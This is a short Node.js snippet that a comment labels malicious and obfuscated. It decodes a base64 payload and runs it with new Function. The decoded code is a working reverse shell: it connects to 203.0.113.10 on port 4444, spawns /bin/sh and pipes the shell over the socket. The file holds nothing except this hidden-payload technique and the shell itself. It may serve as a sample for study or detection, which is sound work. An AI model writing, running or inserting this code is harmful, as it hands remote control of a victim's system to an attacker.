// Malicious, obfuscated: new Function(decoded base64) builds and runs a reverse shell.
const src = Buffer.from('Y29uc3Qgcz1yZXF1aXJlKCduZXQnKS5jb25uZWN0KDQ0NDQsJzIwMy4wLjExMy4xMCcpO2NvbnN0IHA9cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLnNwYXduKCcvYmluL3NoJyk7cy5waXBlKHAuc3RkaW4pO3Auc3Rkb3V0LnBpcGUocyk7cC5zdGRlcnIucGlwZShzKTs=', 'base64').toString('utf8');
new Function('require', src)(require);
